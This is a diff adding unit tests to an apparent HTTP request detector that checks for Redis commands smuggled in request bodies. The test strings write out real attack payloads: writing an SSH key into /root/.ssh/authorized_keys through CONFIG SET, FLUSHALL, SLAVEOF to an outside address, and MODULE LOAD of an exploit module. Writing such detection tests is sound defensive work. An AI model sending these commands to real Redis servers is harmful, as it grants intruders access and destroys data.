@@ -226,3 +226,24 @@ describe('placements the packs rely on', () => {
     expect(detect('/search/products/var/details').alert).toBe(false);
   });
 });
+
+describe('Redis commands in a request body', () => {
+  const detector = new Detector();
+  const ids = (body: string, type = 'text/plain') =>
+    detector
+      .detect(viewRequest(buildExchange({ method: 'POST', target: '/', requestHeaders: [['Content-Type', type]], requestBody: body }), DEFAULT_LIMITS))
+      .hits.map((h) => h.rule.id);
+
+  it('reports the file-writing, replication and module commands a cross-protocol request sends', () => {
+    expect(ids('CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nSET x "\\n\\nssh-ed25519 AAAA root@kali\\n\\n"\r\nSAVE\r\n')).toContain(
+      500108,
+    );
+    expect(ids('FLUSHALL\nSLAVEOF 203.0.113.9 6379\n')).toContain(500108);
+    expect(ids('x=1\nMODULE LOAD ./exp.so\n', 'application/x-www-form-urlencoded')).toContain(500108);
+  });
+
+  it('leaves text that only talks about Redis alone', () => {
+    expect(ids('Our cache runs Redis; we changed the config set by the operator and the module list.')).not.toContain(500108);
+    expect(ids('{"note":"run CONFIG SET dir /data then restart"}', 'application/json')).not.toContain(500108);
+  });
+});
